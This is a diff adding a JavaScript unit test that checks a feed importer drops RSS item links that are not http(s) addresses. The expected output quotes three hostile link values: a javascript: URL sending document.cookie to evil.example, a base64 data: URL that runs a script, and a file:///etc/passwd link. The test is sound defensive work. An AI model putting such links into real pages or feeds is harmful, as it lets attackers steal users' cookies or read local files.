@@ -200,3 +200,22 @@ describe('a feed that declares its own entities', () => {
     ]);
   });
 });
+
+describe('feed item links that are not web addresses', () => {
+  it('are noted and not kept, so no stored link runs a script or opens a local file; the items import', async () => {
+    const batch = await importFixture('rss-item-links-not-http.xml');
+    expect(batch.skipped).toEqual([]);
+    expect(batch.posts.map((post) => post.url)).toEqual([
+      undefined,
+      undefined,
+      undefined,
+      '/news/2025/11/snow',
+      'https://news.example.kz/news/park',
+    ]);
+    expect(batch.notes?.map((note) => [note.location.index, note.note])).toEqual([
+      [0, 'link "javascript:fetch(\'//evil.example/\'+document.cookie)" is not an http(s) address; not kept'],
+      [1, 'link "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" is not an http(s) address; not kept'],
+      [2, 'link "file:///etc/passwd" is not an http(s) address; not kept'],
+    ]);
+  });
+});
